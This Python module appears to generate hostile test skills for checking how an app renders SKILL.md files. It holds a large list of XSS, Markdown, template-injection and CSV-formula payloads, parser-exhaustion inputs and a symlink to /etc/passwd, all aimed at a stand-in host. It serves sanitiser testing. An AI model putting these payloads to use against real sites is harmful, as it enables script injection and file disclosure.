"""Skills of strangers by the thousand: each way to run something, in each place of a skill.

What runs calls ``__ran()``; what leads elsewhere leads to `ELSEWHERE`. The same numbers give the
same skills.
"""

import json
import os
from base64 import b64encode
from collections.abc import Callable, Iterator
from pathlib import Path

RUN = "__ran()"
ELSEWHERE = "elsewhere.invalid"
URL = f"http://{ELSEWHERE}/x"
_SCRIPT = f"<script>{RUN}</script>"
_IMG = f"<img src=x onerror={RUN}>"
_DATA = f"data:text/html;base64,{b64encode(_SCRIPT.encode()).decode()}"

HTML = (
    _SCRIPT,
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script/x>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script type=module>import '{URL}'</script>",
    _IMG,
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<svg><style>{{font-family:'<iframe/onload={RUN}>'",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMG}">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f'<noscript><p title="</noscript>{_IMG}">',
    f'<xmp><p title="</xmp>{_IMG}">',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<template><p title="</template>{_IMG}"></template>',
    f"<title>{_SCRIPT}</title></title>{_SCRIPT}",
    f"<textarea></textarea>{_SCRIPT}",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src={URL}></iframe><frame src={URL}>",
    f"<object data={_DATA}></object><embed src={_DATA}><applet code=x>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}><source src=x onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee><p onanimationstart={RUN} style=animation:x>",
    f"<a href=javascript:{RUN} id=x autofocus onfocus={RUN} tabindex=1>x</a>",
    f"<a href=&#106;avascript&colon;{RUN}>x</a><a href='java\tscript:{RUN}'>x</a>",
    f"<form action={URL}><button formaction=javascript:{RUN}>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={URL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href={URL}><link rel=prefetch href={URL}><link rel=preload href={URL}>",
    f"<style>@import '{URL}'; *{{background:url({URL})}}</style>",
    f'<div style="background:url({URL});position:fixed;inset:0" class=top id=found>x</div>',
    f"<img src={URL} srcset='{URL} 2x'><picture><source srcset={URL}><img></picture>",
    f"<video poster={URL} src={URL} autoplay></video><audio src={URL} autoplay></audio>",
    f"<table background={URL}><td background={URL}></table>",
    f"<div hx-get={URL} hx-trigger=load data-hx-get={URL} hx-on::load={RUN} hx-on:load={RUN}>x</div>",
    f"<div hx-get=/logout hx-trigger=load hx-vals='js:{{a:{RUN}}}'></div>",
    f"\"'><script>{RUN}</script>",
    f"' autofocus onfocus={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"--><script>{RUN}</script><!--",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA[",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea></noscript></template></bdi></code></pre>{_IMG}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u003cimg src=x onerror={RUN}\u003e \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<!--><img src=x onerror={RUN}>--> <?xml x?><!DOCTYPE x [<!ENTITY e '{_IMG}'>]>&e;",
    "{{ cycler.__init__.__globals__.os }} {% include '/etc/passwd' %} ${" + RUN + "}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"=HYPERLINK(\"{URL}\") @SUM(1) +cmd|' /C calc'!A0",
    f"\u202e>{RUN}=rorreno x=crs gmi<\u202c \u2066\u2028\u2029\ufeff{_IMG}",
    f"{_IMG}\x0b\x0c\x1b[31m\x7f\x85{_IMG}",
)
"""Ways to run something or to lead elsewhere, as HTML or as what ends a context of it."""

MARKDOWN = (
    f"[x](javascript:{RUN}) [x](<javascript:{RUN}>) [x](\x01javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN}) [x](java&#10;script:{RUN}) [x](&#x6A;avascript:{RUN})",
    f"[x][r] ![x][r] [r]\n\n[r]: javascript:{RUN}\n",
    f'<javascript:{RUN}> <{_DATA}> <vbscript:{RUN}> <{URL}"onfocus={RUN}>',
    f"[x]({_DATA}) ![x]({_DATA}) [x](blob:{URL}) [x](filesystem:{URL}) [x](view-source:{URL})",
    f"![x]({URL}) ![x](//{ELSEWHERE}/x) ![x](\\\\{ELSEWHERE}\\x) ![x](http:/{ELSEWHERE}/x)",
    f'[x](y \'a"onfocus={RUN} autofocus="\') ![a"onerror={RUN} x="](x.png \'b"onerror={RUN}\')',
    f"![{_IMG}](x.png) [{_IMG}](x.png) [![{_IMG}](x.png)](javascript:{RUN})",
    f"```{_IMG}\n{_IMG}\n```\n\n~~~html\n{_SCRIPT}\n~~~\n\n    {_IMG}\n\n`{_IMG}`",
    f"| {_IMG} | b |\n|:-:|---|\n| {_SCRIPT} | <td onclick={RUN}> |\n",
    f"# {_IMG}\n\n{_SCRIPT}\n===\n\n1. {_IMG}\n   - > {_SCRIPT}\n",
    f"<p>\n\n{_IMG}\n\n</p>\n<script>\n\n{RUN}\n\n</script>\n<style>\n\n*{{background:url({URL})}}",
    f"<a href='x'>[x](javascript:{RUN})</a> <b>**{_IMG}**</b> <!-- {_IMG} --> <![CDATA[{_IMG}]]>",
    f"[x](../../../raw/x?path=y) [x](/logout) [x](?path=javascript:{RUN}) [x](//{ELSEWHERE})",
    "[" * 2000 + "](" * 2000 + f"javascript:{RUN}" + ")" * 2000,
    "> " * 1500 + _IMG + "\n" + "- " * 1500 + _IMG,
    "<b>" * 2000 + _IMG + "*a_" * 2000,
)
"""The same, as Markdown."""

PAYLOADS = (*HTML, *MARKDOWN)
FIELDS = "description kind category version license author compatibility".split()
CONTEXTS: tuple[Callable[[str], str], ...] = (
    lambda text: f"{text}\n",
    lambda text: f"# {text}\n",
    lambda text: f"- {text}\n",
    lambda text: f"> {text}\n",
    lambda text: f"| a | b |\n|---|---|\n| {text} | {text} |\n",
    lambda text: f"```{text.splitlines()[0]}\n{text}\n```\n",
    lambda text: f"[{text}](x.png)\n",
    lambda text: f"[x]({text})\n",
    lambda text: f"![{text}](x.png '{text}')\n",
    lambda text: f'<a href="{text}" title="{text}">x</a>\n',
    lambda text: f"<svg><desc>{text}</desc></svg>\n",
    lambda text: f"<math><mtext>{text}</mtext></math>\n",
)
"""Where in a document a text may stand."""


def payload(number: int, place: int) -> str:
    """Return what stands in a place of a skill: in each place each comes in its turn."""
    return PAYLOADS[(number + 7 * place) % len(PAYLOADS)]


def document(number: int) -> str:
    """Return the SKILL.md of a skill."""
    places = iter(range(1000))

    def next_one() -> str:
        return payload(number, next(places))

    front: dict[str, object] = {"name": f"{number} {next_one()[:200]}"}
    front |= {field: next_one()[:900] for field in FIELDS}
    front["tags"] = [next_one()[:120], next_one()[:120]]
    front["required_tools"] = [next_one()[:100]]
    front["parameters"] = [{"name": next_one()[:100], "description": next_one()[:300]}]
    front[next_one()[:100]] = next_one()
    front["metadata"] = {next_one()[:100]: [next_one(), {next_one()[:100]: next_one()}]}
    text = "".join(f"{json.dumps(key)}: {json.dumps(value)}\n" for key, value in front.items())
    body = "\n\n".join(context(next_one()) for context in CONTEXTS)
    return f"---\n{text}---\n\n{body}"


def files(number: int) -> Iterator[tuple[str, str]]:
    """Yield the names and texts of a skill's other files."""
    named = payload(number, 40).replace("/", "∕").replace("\\", "")
    yield f"{named.encode()[:180].decode(errors='ignore')}.md", payload(number, 41)
    yield "x.svg", f"<svg xmlns='http://www.w3.org/2000/svg'>{payload(number, 42)}{_SCRIPT}</svg>"
    yield "x.html", payload(number, 43)
    yield "x.png", f"GIF89a{payload(number, 44)}"
    yield "data.csv", f"a,b\n{payload(number, 45)},2\n"
    yield "run.py", f"'''{payload(number, 46)}'''\n# {payload(number, 47)}\n"


def write(root: Path, number: int, turn: int = 0) -> None:
    """Write the skill of a number; of another ``turn`` it is another content."""
    folder = root / f"h-{number}"
    folder.mkdir(exist_ok=True)
    (folder / "SKILL.md").write_text(document(number + turn), encoding="utf-8")
    for name, text in files(number):
        with open(os.path.join(folder, name), "w", encoding="utf-8") as file:
            file.write(text if not turn else f"{text}\n{payload(number, 50)}\n")


def write_large(root: Path) -> None:
    """Write skills that are large or deep, and some with what is no text."""
    front = "---\nname: {}\ndescription: {}\n---\n\n"
    texts = {
        "brackets": "[" * 10_000 + _IMG + "]" * 10_000,
        "images": "![" * 10_000 + _IMG,
        "quotes": ">" * 10_000 + _IMG + "\n" + "\"'" * 10_000,
        "lists": "".join(f"{' ' * (depth % 200)}- {_IMG}\n" for depth in range(5_000)),
        "elements": "<div><svg><math>" * 10_000 + _IMG,
        "table": "| a | b |\n|---|---|\n" + f"| {_IMG} | 2 |\n" * 3_000,
        "entities": "&lt;img onerror&#61;" * 5_000 + "&#0;&#x110000;&#xD800;" * 1_000,
        "references": "".join(f"[{n}]: javascript:{RUN}\n" for n in range(3_000)) + "[1] " * 9_000,
        "turned": f"\u202e{_IMG}\u202d\u2067" * 3_000,
    }
    for name, text in texts.items():
        folder = root / f"large-{name}"
        folder.mkdir()
        (folder / "SKILL.md").write_text(front.format(name, _IMG) + text, encoding="utf-8")
    folder = root / "large-files"
    folder.mkdir()
    escapes = '"\\uD800 \\0 \\uDFFF <script>"'
    (folder / "SKILL.md").write_text(front.format("files", escapes) + f"a\0b {_IMG}")
    (folder / "zero.md").write_bytes(b"\0" * 100 + _IMG.encode())
    (folder / "broken.md").write_bytes(b"\xed\xa0\x80\xff" + _IMG.encode())
    (folder / "table.md").write_text("| a | b |\n|---|---|\n" + f"| {_IMG} | 2 |\n" * 300_000)
    os.symlink("/etc/passwd", folder / "link.md")
